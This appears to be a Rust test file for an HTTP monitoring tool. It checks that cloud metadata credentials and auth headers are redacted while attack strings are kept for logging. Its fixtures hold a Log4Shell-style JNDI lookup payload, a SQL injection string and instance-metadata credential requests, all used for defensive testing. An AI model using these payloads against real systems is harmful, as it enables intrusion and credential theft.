//! Credentials: what is kept of them, and that nothing else is.

use std::io::Write as _;

use clew_event::http::{HttpPrincipalKind, IssuedCredential};
use flate2::Compression;
use flate2::write::GzEncoder;
use proptest::prelude::*;

use super::Way::{In, Out};
use super::*;
use crate::http::metadata::WORD_BYTES_MAX;

const SECRET: &str = "wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY/+x=";
const TOKEN: &str = "IQoJb3JpZ2luX2VjEXAMPLETOKEN//AA==";
const ROLE_PATH: &str = "/latest/meta-data/iam/security-credentials/web-role";

fn credential() -> String {
    format!(
        "{{\n \"Code\" : \"Success\",\n \"AccessKeyId\" : \"ASIAIOSFODNN7EXAMPLE\",\n \
         \"SecretAccessKey\" : \"{SECRET}\",\n \"Token\" : \"{TOKEN}\",\n \
         \"Expiration\" : \"2026-11-24T18:00:00Z\"\n}}"
    )
}

fn response(body: &[u8], fields: &str) -> Vec<u8> {
    let head = format!("HTTP/1.1 200 OK\r\n{fields}Content-Length: {}\r\n\r\n", body.len());
    [head.as_bytes(), body].concat()
}

fn request(path: &str) -> Vec<u8> {
    let fields = format!("Host: 169.254.169.254\r\nX-aws-ec2-metadata-token: {TOKEN}\r\n");
    format!("GET {path} HTTP/1.1\r\n{fields}\r\n").into_bytes()
}

/// What the last response handed out, after a look at all that is told.
fn issued(
    wire: &mut Wire,
    request: &[u8],
    response: &[u8],
    piece_bytes: usize,
) -> Option<IssuedCredential> {
    let mut pieces = vec![(Out, request)];
    pieces.extend(response.chunks(piece_bytes).map(|piece| (In, piece)));
    let mut told = told(wire, &pieces);
    assert_without_secrets(&told);
    let response = told.pop().and_then(|it| it.response).expect("a response");
    assert_eq!(response.body, Text::default());
    response.issued.map(|issued| *issued)
}

fn assert_without_secrets(told: &[HttpEvent]) {
    for shown in [format!("{told:?}"), serde_json::to_string(told).expect("JSON")] {
        for secret in [SECRET, TOKEN, &SECRET[..20], &TOKEN[..16], &SECRET[22..]] {
            assert!(!shown.contains(secret), "{secret} in {shown}");
        }
    }
}

#[test]
fn of_a_credential_of_the_metadata_service_only_the_id_is_kept_however_it_comes() {
    let expected = Some(IssuedCredential {
        id: "ASIAIOSFODNN7EXAMPLE".into(),
        role: "web-role".into(),
        expires: TimestampNs::from_rfc3339("2026-11-24T18:00:00Z"),
        has_token: true,
    });
    let whole = response(credential().as_bytes(), "");
    let mut packed = GzEncoder::new(Vec::new(), Compression::default());
    packed.write_all(credential().as_bytes()).expect("memory");
    let packed = response(&packed.finish().expect("memory"), "Content-Encoding: gzip\r\n");
    for peer in ["169.254.169.254:80", "[fd00:ec2::254]:80", "169.254.170.2:80"] {
        for bytes in [&whole, &packed] {
            for piece_bytes in [1, 7, 50, 10_000] {
                let mut wire = Wire::outbound(peer);
                let issued = issued(&mut wire, &request(ROLE_PATH), bytes, piece_bytes);
                assert_eq!(issued, expected, "{peer} in pieces of {piece_bytes}");
            }
        }
    }
}

#[test]
fn an_answer_that_cannot_be_read_is_dropped_as_well() {
    let text = credential();
    let mut wire = Wire::outbound("169.254.169.254:80");
    let odd = text.replace("AccessKeyId", "Other");
    assert_eq!(issued(&mut wire, &request(ROLE_PATH), &response(odd.as_bytes(), ""), 99), None);
    let mut wire = Wire::outbound("169.254.169.254:80");
    let token = request("/latest/api/token");
    assert_eq!(issued(&mut wire, &token, &response(TOKEN.as_bytes(), ""), 99), None);
    let mut wire = Wire::outbound("169.254.169.254:80");
    let packed = response(text.as_bytes(), "Content-Encoding: br\r\n");
    assert_eq!(issued(&mut wire, &request(ROLE_PATH), &packed, 99), None);
}

proptest! {
    #[test]
    fn a_credential_that_came_in_part_leaves_nothing_but_its_id(seen in 0_usize..260, gap in 1_u64..99) {
        let whole = response(credential().as_bytes(), "");
        let mut wire = Wire::outbound("169.254.170.23:80");
        let (mut assembler, mut events) = (Assembler::default(), Vec::new());
        assembler.take(&wire.piece(Out, &request("/v1/credentials"), 0), &mut events);
        assembler.take(&wire.piece(In, &whole[..seen.min(whole.len())], gap), &mut events);
        let rest = whole.get(seen + usize::try_from(gap).expect("short")..).unwrap_or_default();
        assembler.take(&wire.piece(In, rest, 0), &mut events);
        assembler.take(&wire.end(), &mut events);
        let told = https(&events);
        assert_without_secrets(&told);
        let id = told.last().and_then(|it| it.response.as_ref()?.issued.as_ref()).map(|it| &it.id);
        prop_assert!(id.is_none_or(|id| id.as_bytes() == b"ASIAIOSFODNN7EXAMPLE"), "{id:?}");
    }
}

#[test]
fn tokens_of_google_and_azure_are_dropped_and_named_by_what_is_public() {
    let body = format!("{{\"access_token\":\"ya29.{TOKEN}\",\"expires_in\":3599}}");
    let path = "/computeMetadata/v1/instance/service-accounts/default/token";
    let asked = format!("GET {path} HTTP/1.1\r\nMetadata-Flavor: Google\r\n\r\n");
    let mut wire = Wire::outbound("169.254.169.254:80");
    let found = issued(&mut wire, asked.as_bytes(), &response(body.as_bytes(), ""), 9);
    let found = found.expect("a credential");
    assert_eq!((found.id, found.role, found.has_token), (Text::default(), "default".into(), true));
    let ns = found.expires.map(TimestampNs::unix_ns).unwrap_or_default();
    assert_eq!(ns / 1_000_000_000, 3599);

    // The claims are {"uti":"AbC","appid":"app"}.
    let body = "{\"access_token\":\"eyJhIjoxfQ.eyJ1dGkiOiJBYkMiLCJhcHBpZCI6ImFwcCJ9.c2ln\"}";
    let asked = b"GET /metadata/identity/oauth2/token HTTP/1.1\r\nMetadata: true\r\n\r\n";
    let mut wire = Wire::outbound("169.254.169.254:80");
    let found = issued(&mut wire, asked, &response(body.as_bytes(), ""), 9).expect("a credential");
    assert_eq!((found.id, found.role), ("AbC".into(), "app".into()));
}

#[test]
fn only_the_service_itself_hands_out_credentials() {
    let mut wire = Wire::outbound("203.0.113.1:80");
    let whole = response(credential().as_bytes(), "");
    assert_eq!(issued(&mut wire, &request(ROLE_PATH), &whole, 99), None);
}

#[test]
fn a_stolen_credential_that_an_application_passes_on_is_starred() {
    let json = credential();
    let xml =
        format!("<SecretAccessKey>{SECRET}</SecretAccessKey><SessionToken>{TOKEN}</SessionToken>");
    let quoted = serde_json::to_string(&credential()).expect("JSON");
    for body in [json, xml, quoted] {
        let whole = response(body.as_bytes(), "");
        let told = told(&mut Wire::inbound(), &[(In, b"GET / HTTP/1.1\r\n\r\n"), (Out, &whole)]);
        assert_without_secrets(&told);
        let kept = told[1].response.as_ref().map(|it| it.body.to_string()).unwrap_or_default();
        assert!(kept.contains("SecretAccessKey"), "{kept}");
    }
}

#[test]
fn a_role_is_read_up_to_its_bound() {
    let role = "r".repeat(WORD_BYTES_MAX + 1);
    let path = format!("/latest/meta-data/iam/security-credentials/{role}");
    let whole = response(credential().as_bytes(), "");
    let mut wire = Wire::outbound("169.254.169.254:80");
    let found = issued(&mut wire, &request(&path), &whole, 999).expect("a credential");
    assert_eq!(found.role.as_bytes().len(), WORD_BYTES_MAX);
}

#[test]
fn credentials_in_fields_are_starred_and_attacks_are_kept() {
    let fields = "Authorization: Basic Ym9iOnNlY3JldHB3\r\nProxy-Authorization: Basic eDp5\r\n\
        Cookie: theme=dark; sessionid=0123456789abcdef; id=1' OR '1'='1; t=a1b2c3d4e5f6a7b8c9\r\n\
        X-Api-Key: sk_live_0123456789\r\nX-Api-Version: ${jndi:ldap://x/a}\r\n\
        X-My-Token: ${jndi:ldap://y/a}\r\nX-Their-Token: 0123456789abcdef\r\n";
    let request = format!("GET / HTTP/1.1\r\n{fields}\r\n");
    let told = told(
        &mut Wire::inbound(),
        &[
            (In, request.as_bytes()),
            (Out, b"HTTP/1.1 204 No\r\nSet-Cookie: sid=abcdef; HttpOnly\r\n\r\n"),
        ],
    );
    let request = &told[0].request;
    let check = |name: &str, value: &str| {
        assert_eq!(request.header(name).map(ToString::to_string).as_deref(), Some(value));
    };
    check("authorization", "Basic *");
    check("proxy-authorization", "*");
    check("cookie", "theme=dark; sessionid=*; id=1' OR '1'='1; t=*");
    check("x-api-key", "*");
    check("x-api-version", "${jndi:ldap://x/a}");
    check("x-my-token", "${jndi:ldap://y/a}");
    check("x-their-token", "*");
    let response = told[1].response.as_ref().expect("a response");
    let cookie = response.header("set-cookie").map(ToString::to_string);
    assert_eq!(cookie.as_deref(), Some("sid=*; HttpOnly"));
    let principal = request.principal.as_ref().expect("one");
    assert_eq!((principal.kind, &principal.name), (HttpPrincipalKind::Basic, &"bob".into()));
}

#[test]
fn a_principal_is_told_by_what_it_shows_first() {
    let of = |fields: &str| {
        let request = format!("GET / HTTP/1.1\r\n{fields}\r\n\r\n");
        let told = told(&mut Wire::inbound(), &[(In, request.as_bytes())]);
        told[0].request.principal.clone().expect("a principal")
    };
    // {"alg":"none"} and {"sub":"u1","exp":5}, then the same subject with another expiration.
    let one = of("Authorization: Bearer eyJhbGciOiJub25lIn0.eyJzdWIiOiJ1MSIsImV4cCI6NX0.");
    assert_eq!((&one.name, &one.algorithm, one.expires), (&"u1".into(), &"none".into(), Some(5)));
    let two = of("Cookie: jwt=eyJhbGciOiJub25lIn0.eyJzdWIiOiJ1MSIsImV4cCI6Nn0.c2ln");
    assert_eq!((two.kind, two.hash), (HttpPrincipalKind::Token, one.hash.clone()));
    assert_eq!(of("Authorization: Bearer abc").kind, HttpPrincipalKind::Bearer);
    assert_eq!(of("X-Api-Key: abc\r\nCookie: sid=1").kind, HttpPrincipalKind::ApiKey);
    assert_eq!(of("Cookie: a=1; sid=5").hash, of("Cookie: sid=5; a=2").hash);
    assert_eq!(of("Cookie: a=1; b=2").hash, of("Cookie: b=2; a=1").hash);
    assert_ne!(of("Cookie: a=1; b=2").hash, of("Cookie: b=2; a=2").hash);
    assert_eq!(one.hash.as_bytes().len(), 16);
}

#[test]
fn a_client_is_the_last_that_no_trusted_proxy_added() {
    let check = |fields: &str, client: &str| {
        let request = format!("GET / HTTP/1.1\r\n{fields}\r\n\r\n");
        let told = told(&mut Wire::inbound(), &[(In, request.as_bytes())]);
        assert_eq!(told[0].request.client, client.parse().ok(), "{fields}");
    };
    check("A: b", "10.0.0.9");
    check("X-Forwarded-For: 1.1.1.1, 8.8.8.8, 10.1.1.1", "8.8.8.8");
    check("X-Forwarded-For: 1.1.1.1\r\nX-Forwarded-For: 8.8.8.8:99", "8.8.8.8");
    check("Forwarded: for=1.1.1.1, For=\"[2001:db8::1]:99\";proto=https", "2001:db8::1");
    check("X-Forwarded-For: 8.8.8.8, unknown", "10.0.0.9");
}
